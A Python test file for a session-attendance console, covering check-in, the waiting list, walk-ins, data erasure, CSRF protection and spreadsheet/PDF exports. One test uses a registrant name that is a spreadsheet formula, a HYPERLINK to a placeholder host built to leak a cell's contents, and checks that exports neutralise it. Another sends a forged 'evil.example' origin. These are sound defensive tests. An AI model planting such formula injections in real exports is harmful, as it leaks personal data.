"""Attendance at the door in the console: a session's list searched by name or booking code,
one tap to check in (the time kept), a second tap said in words, someone on the waiting list
or a walk-in let in and recorded as such; people who erased their data are not listed."""

from __future__ import annotations

from urllib.parse import parse_qs, urlsplit
from zoneinfo import ZoneInfo

import pytest

from auxil.console import PASSWORD, client, sign_in
from auxil.sessions import a_session
from bot.console.web import build
from bot.domain import accounts
from bot.domain.people import touch_person, update_profile
from bot.domain.privacy import erase_person
from bot.domain.registrations import attendees, register
from bot.domain.sessions import DEFAULT_POLICY
from bot.support.passwords import hash_password

WITA = ZoneInfo("Asia/Makassar")


async def villager(db, user: str, name: str, village: str = "Kaleke") -> int:
    person = await touch_person(db, "telegram", user, name, "id")
    await update_profile(db, person.id, full_name=name, village=village, consent_at="2026-11-30")
    return person.id


@pytest.fixture
async def door(db):
    """A session for two seats: Siti and Andi registered, Wati on the waiting list."""
    await accounts.add_account(db, "budi", "officer", hash_password(PASSWORD))
    session = await a_session(db, "Sosialisasi paspor", capacity=2)
    codes = {}
    for user, name in (("1", "Siti Aminah"), ("2", "Andi Lamato"), ("3", "Wati Sule")):
        codes[name] = (
            await register(db, session.code, await villager(db, user, name))
        ).booking_code
    return build(db, WITA, session_hours=12), session, codes


def note_of(answer) -> dict[str, list[str]]:
    return parse_qs(urlsplit(answer.headers["location"]).query)


async def test_the_list_is_searched_by_name_or_booking_code(door):
    app, session, codes = door
    async with client(app) as browser:
        await sign_in(browser, "budi")
        everyone = await browser.get(f"/sesi/{session.code}")
        by_name = await browser.get(f"/sesi/{session.code}", params={"q": "siti"})
        by_code = await browser.get(f"/sesi/{session.code}", params={"q": codes["Andi Lamato"]})
        nobody = await browser.get(f"/sesi/{session.code}", params={"q": "zzz"})
    assert all(name in everyone.text for name in codes)
    assert "daftar tunggu no. 1" in everyone.text  # Wati waits, in words
    assert "Siti Aminah" in by_name.text and "Andi Lamato" not in by_name.text
    assert "Andi Lamato" in by_code.text and "Siti Aminah" not in by_code.text
    assert "Tidak ada yang cocok." in nobody.text


async def test_one_tap_checks_in_and_a_second_tap_says_so_in_words(door, db):
    app, session, codes = door
    booking = codes["Siti Aminah"]
    async with client(app) as browser:
        await sign_in(browser, "budi")
        first = await browser.post(f"/sesi/{session.code}/hadir", data={"booking": booking})
        shown = await browser.get(first.headers["location"])
        second = await browser.post(f"/sesi/{session.code}/hadir", data={"booking": booking})
        again = await browser.get(second.headers["location"])
    assert first.status_code == 303 and note_of(first)["ok"] == [booking]
    assert "✔ Siti Aminah dicatat hadir" in shown.text
    assert "Siti Aminah sudah hadir sejak pukul" in again.text
    [siti] = [a for a in await attendees(db, session.code) if a.name == "Siti Aminah"]
    assert siti.status == "attended" and siti.checked_in_at and siti.admitted is None
    lines = await db.fetchall("SELECT actor, action FROM audit_log WHERE action LIKE 'console_c%'")
    assert [tuple(r) for r in lines] == [("console:budi", "console_checkin")]  # once


async def test_the_waiting_list_and_walk_ins_are_let_in_and_recorded_as_such(door, db):
    app, session, codes = door
    async with client(app) as browser:
        await sign_in(browser, "budi")
        await browser.post(
            f"/sesi/{session.code}/hadir", data={"booking": codes["Wati Sule"], "admit": "1"}
        )
        came = await browser.post(
            f"/sesi/{session.code}/tamu", data={"name": "  Pak  Lurah ", "village": "Kaleke"}
        )
        page = await browser.get(came.headers["location"])
        empty = await browser.post(f"/sesi/{session.code}/tamu", data={"name": "  "})
    kept = {a.name: a for a in await attendees(db, session.code)}
    assert kept["Wati Sule"].status == "attended" and kept["Wati Sule"].admitted == "waitlist"
    assert kept["Pak Lurah"].status == "attended" and kept["Pak Lurah"].admitted == "walk_in"
    assert "datang tanpa daftar" in page.text and "dari daftar tunggu" in page.text
    assert note_of(empty).get("refused")


async def test_someone_who_erased_their_data_is_not_on_the_list(door, db):
    app, session, _ = door
    [andi] = await db.fetchall("SELECT id FROM people WHERE full_name = 'Andi Lamato'")
    await erase_person(db, andi["id"], DEFAULT_POLICY)
    async with client(app) as browser:
        await sign_in(browser, "budi")
        page = await browser.get(f"/sesi/{session.code}")
    assert "Andi Lamato" not in page.text
    assert page.text.count('name="booking"') == 2  # Siti, and Wati now has the seat


async def test_signed_out_or_from_another_site_nobody_is_checked_in(door, db):
    app, session, codes = door
    async with client(app) as stranger:
        answer = await stranger.post(
            f"/sesi/{session.code}/hadir", data={"booking": codes["Siti Aminah"]}
        )
    # the sign-in page, carrying the form to send again once signed in: nothing done yet
    assert answer.status_code == 401 and 'name="password"' in answer.text
    async with client(app) as browser:
        await sign_in(browser, "budi")
        forged = await browser.post(
            f"/sesi/{session.code}/hadir",
            data={"booking": codes["Siti Aminah"]},
            headers={"Origin": "https://evil.example"},
        )
        unknown = await browser.get("/sesi/ZZZZ")
    assert forged.status_code == 403 and unknown.status_code == 404
    assert all(a.status != "attended" for a in await attendees(db, session.code))


async def test_the_files_open_right_excel_csv_and_the_attendance_sheet(door, db):
    import io

    from openpyxl import load_workbook
    from pypdf import PdfReader

    app, session, codes = door
    await villager(db, "4", '=HYPERLINK("http://x/?"&C3,"Klik")')  # a name as a formula
    [sly] = await db.fetchall("SELECT id FROM people WHERE channel_user_id = '4'")
    await register(db, session.code, sly["id"])
    async with client(app) as browser:
        await sign_in(browser, "budi")
        await browser.post(f"/sesi/{session.code}/hadir", data={"booking": codes["Siti Aminah"]})
        book = await browser.get(f"/sesi/{session.code}/peserta.xlsx")
        table = await browser.get(f"/sesi/{session.code}/peserta.csv")
        sheet = await browser.get(f"/sesi/{session.code}/daftar-hadir.pdf")
    assert "attachment" in book.headers["content-disposition"]
    page = load_workbook(io.BytesIO(book.content)).active
    cells = {cell.value: cell for row in page.iter_rows() for cell in row if cell.value}
    assert page["A1"].value == "Sesi" and page["B1"].value == "Sosialisasi paspor"
    assert {"Nama", "Desa", "No. HP", "Kode booking", "Status", "Waktu hadir"} <= set(cells)
    assert "hadir" in cells and "terdaftar" in cells and "daftar tunggu no. 1" in cells
    formula = cells['=HYPERLINK("http://x/?"&C3,"Klik")']
    assert formula.data_type == "s"  # text, not a live link
    assert table.content.startswith("\ufeff".encode())
    text = table.content.decode("utf-8-sig")
    assert "Nama,Desa,No. HP,Kode booking,Status,Waktu hadir" in text
    assert "'=HYPERLINK" in text and "Siti Aminah" in text
    pdf = "".join(p.extract_text() for p in PdfReader(io.BytesIO(sheet.content)).pages)
    assert "DAFTAR HADIR" in pdf and "Tanda tangan" in pdf
    assert "Siti Aminah" in pdf and "Wati Sule" in pdf and codes["Andi Lamato"] in pdf


async def test_registrants_per_village_across_sessions(door, db):
    import io

    from openpyxl import load_workbook

    app, _, _ = door
    other = await a_session(db, "Hari paspor", village="Pesaku")
    [siti] = await db.fetchall("SELECT id FROM people WHERE full_name = 'Siti Aminah'")
    await register(db, other.code, siti["id"])
    async with client(app) as browser:
        await sign_in(browser, "budi")
        book = await browser.get("/ringkasan/peserta-per-desa.xlsx")
        table = await browser.get("/ringkasan/peserta-per-desa.csv")
    rows = [
        [c.value for c in row] for row in load_workbook(io.BytesIO(book.content)).active.iter_rows()
    ]
    people = [[*r[:2], r[3]] for r in rows[3:]]  # village, name, session
    assert people == [
        ["Kaleke", "Andi Lamato", "Sosialisasi paspor"],
        ["Kaleke", "Siti Aminah", "Sosialisasi paspor"],
        ["Kaleke", "Siti Aminah", "Hari paspor"],
        ["Kaleke", "Wati Sule", "Sosialisasi paspor"],
    ]
    assert table.content.startswith("\ufeff".encode()) and b"Desa,Nama" in table.content
